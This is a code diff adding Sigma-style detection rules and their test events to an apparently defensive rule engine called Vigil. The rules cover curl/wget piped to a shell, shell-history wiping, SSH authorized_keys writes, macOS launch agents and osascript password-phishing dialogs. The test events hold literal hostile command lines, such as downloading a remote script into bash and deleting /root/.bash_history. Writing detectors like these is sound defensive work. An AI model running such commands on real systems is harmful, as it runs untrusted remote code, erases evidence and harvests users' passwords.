@@ -100,6 +100,81 @@ vigil-tests:
         - {FileContent: 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*                                                                 '}
         - {FileContent: 'padding X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}
 """#),
+        (name: "vigil_lnx_download_piped_to_shell.yml", text: #"""
+title: Download piped into a shell
+id: 1e2d3c4b-5a69-4788-9a0b-c1d2e3f4a5b6
+status: stable
+description: A file fetched with curl or wget is fed straight into a shell interpreter, a common way to run a dropper without touching disk.
+author: Vigil
+date: 2026-11-27
+tags:
+    - attack.execution
+    - attack.t1059.004
+    - attack.t1105
+logsource:
+    category: process_creation
+detection:
+    selection_download:
+        CommandLine|contains:
+            - 'curl '
+            - 'wget '
+    selection_pipe:
+        CommandLine|contains:
+            - '| sh'
+            - '|sh'
+            - '| bash'
+            - '|bash'
+            - '| zsh'
+            - '| python'
+    condition: all of selection_*
+level: high
+vigil-tests:
+    match:
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'sh -c curl -fsSL http://203.0.113.9/x | bash'}
+        - {logsource: {category: process_creation, product: macos}, CommandLine: 'wget -qO- http://x/i.sh|sh'}
+    nomatch:
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'curl -o /tmp/file http://x/y'}
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'cat notes | bash'}
+"""#),
+        (name: "vigil_lnx_history_cleared.yml", text: #"""
+title: Shell history cleared
+id: 5c6d7e8f-9a0b-4c2d-9e3f-a4b5c6d7e8f9
+status: stable
+description: A command wipes the shell history, typical of an intruder covering tracks.
+author: Vigil
+date: 2026-11-27
+tags:
+    - attack.defense-evasion
+    - attack.t1070.003
+logsource:
+    category: process_creation
+detection:
+    selection_history:
+        CommandLine|contains:
+            - 'history -c'
+            - 'unset HISTFILE'
+            - 'HISTFILESIZE=0'
+            - 'HISTSIZE=0'
+    selection_truncate:
+        CommandLine|contains:
+            - '/.bash_history'
+            - '/.zsh_history'
+        CommandLine|contains|windash:
+            - 'rm -'
+            - '> '
+            - 'truncate -s'
+            - 'shred '
+    condition: 1 of selection_*
+level: high
+vigil-tests:
+    match:
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'bash -c history -c'}
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'rm -f /root/.bash_history'}
+        - {logsource: {category: process_creation, product: macos}, CommandLine: 'truncate -s 0 /Users/a/.zsh_history'}
+    nomatch:
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'cat /root/.bash_history'}
+        - {logsource: {category: process_creation, product: linux}, CommandLine: 'history'}
+"""#),
         (name: "vigil_lnx_reverse_shell.yml", text: #"""
 title: Reverse shell command line
 id: 0b6f3e2d-8c1a-4f5e-9d7b-2a3c4e5f6a7b
@@ -138,6 +213,92 @@ vigil-tests:
     nomatch:
         - {logsource: {category: process_creation, product: linux}, Image: /usr/bin/nc, CommandLine: 'nc -zv 10.0.0.5 22'}
         - {logsource: {category: file_event, product: linux}, CommandLine: 'cat /dev/tcp/x/1'}
+"""#),
+        (name: "vigil_lnx_ssh_authorized_keys_write.yml", text: #"""
+title: SSH authorized_keys modified
+id: 2f3e4d5c-6b7a-4899-8a1b-d2e3f4a5b6c7
+status: stable
+description: A process wrote an SSH authorized_keys file, which grants persistent key-based access to the account.
+author: Vigil
+date: 2026-11-27
+tags:
+    - attack.persistence
+    - attack.t1098.004
+logsource:
+    category: file_event
+detection:
+    selection:
+        TargetFilename|endswith:
+            - '/.ssh/authorized_keys'
+            - '/.ssh/authorized_keys2'
+    filter_sshd:
+        Image|endswith: '/sshd'
+    condition: selection and not filter_sshd
+level: medium
+vigil-tests:
+    match:
+        - {logsource: {category: file_event, product: linux}, TargetFilename: /root/.ssh/authorized_keys, Image: /usr/bin/bash}
+        - {logsource: {category: file_event, product: macos}, TargetFilename: /Users/alice/.ssh/authorized_keys2}
+    nomatch:
+        - {logsource: {category: file_event, product: linux}, TargetFilename: /root/.ssh/known_hosts}
+        - {logsource: {category: file_event, product: linux}, TargetFilename: /root/.ssh/authorized_keys, Image: /usr/sbin/sshd}
+"""#),
+        (name: "vigil_macos_launch_agent_created.yml", text: #"""
+title: Launch agent or daemon written
+id: 3a4b5c6d-7e8f-4a0b-9c1d-e2f3a4b5c6d7
+status: stable
+description: A property list was written to a LaunchAgents or LaunchDaemons folder, the standard way to persist on macOS.
+author: Vigil
+date: 2026-11-27
+tags:
+    - attack.persistence
+    - attack.t1543.001
+    - attack.t1543.004
+logsource:
+    product: macos
+    category: file_event
+detection:
+    selection:
+        TargetFilename|contains:
+            - '/Library/LaunchAgents/'
+            - '/Library/LaunchDaemons/'
+        TargetFilename|endswith: '.plist'
+    condition: selection
+level: medium
+vigil-tests:
+    match:
+        - {logsource: {category: file_event, product: macos}, TargetFilename: /Users/bob/Library/LaunchAgents/com.update.plist}
+        - {logsource: {category: file_event, product: macos}, TargetFilename: /Library/LaunchDaemons/com.evil.helper.plist}
+    nomatch:
+        - {logsource: {category: file_event, product: macos}, TargetFilename: /Library/LaunchDaemons/readme.txt}
+        - {logsource: {category: file_event, product: linux}, TargetFilename: /Library/LaunchAgents/x.plist}
+"""#),
+        (name: "vigil_macos_osascript_password_prompt.yml", text: #"""
+title: osascript prompts for a password
+id: 4b5c6d7e-8f9a-4b1c-8d2e-f3a4b5c6d7e8
+status: stable
+description: AppleScript run from the command line shows a dialog asking for a password, a common credential-phishing trick of macOS stealers.
+author: Vigil
+date: 2026-11-27
+tags:
+    - attack.credential-access
+    - attack.t1056.002
+logsource:
+    product: macos
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: '/osascript'
+        CommandLine|contains|all:
+            - 'display dialog'
+            - 'password'
+    condition: selection
+level: high
+vigil-tests:
+    match:
+        - {logsource: {category: process_creation, product: macos}, Image: /usr/bin/osascript, CommandLine: 'osascript -e display dialog "Enter your password" default answer "" with hidden answer'}
+    nomatch:
+        - {logsource: {category: process_creation, product: macos}, Image: /usr/bin/osascript, CommandLine: 'osascript -e display notification "done"'}
 """#),
         (name: "vigil_macos_quarantine_removed.yml", text: #"""
 title: Gatekeeper quarantine attribute removed
